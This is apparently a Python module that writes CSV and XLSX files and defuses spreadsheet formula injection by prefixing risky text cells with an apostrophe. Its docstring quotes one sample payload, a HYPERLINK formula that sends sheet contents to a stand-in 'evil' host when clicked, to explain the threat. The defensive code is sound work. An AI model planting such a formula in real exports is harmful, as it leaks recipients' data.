"""The one way Zicht writes CSV and XLSX: every text cell is defused against spreadsheet formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets (CSV/formula injection: a name such as
``=HYPERLINK("https://evil/?"&A1)`` sent to a partner leaks the sheet when clicked). Such a cell
gets a leading apostrophe, which spreadsheets show as text. Numbers, dates and booleans are
written as they are (a negative number is a number, not a formula).

Pure Python (csv, openpyxl); no Django. Use ``csv_writer`` instead of ``csv.writer`` and
``append_row`` instead of ``worksheet.append``; a test fails when code under ``src/zicht``
calls ``csv.writer`` or builds an openpyxl workbook anywhere else.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def defuse_cell(value: Any) -> Any:
    """A text value that cannot run as a formula; other values unchanged ('' for None)."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value
    return value


def defuse_row(values: Iterable[Any]) -> list:
    return [defuse_cell(v) for v in values]


class SafeCSVWriter:
    """``csv.writer`` whose rows are defused cell by cell."""

    def __init__(self, fileobj, **kwargs):
        self._writer = csv.writer(fileobj, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(defuse_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj, **kwargs) -> SafeCSVWriter:
    return SafeCSVWriter(fileobj, **kwargs)


def new_workbook(**kwargs):
    """An openpyxl Workbook; write its rows with ``append_row``."""
    from openpyxl import Workbook

    return Workbook(**kwargs)


def append_row(worksheet, values: Iterable[Any]) -> None:
    """``worksheet.append`` with text defused (openpyxl stores a string starting with '=' as a formula)."""
    worksheet.append(defuse_row(values))
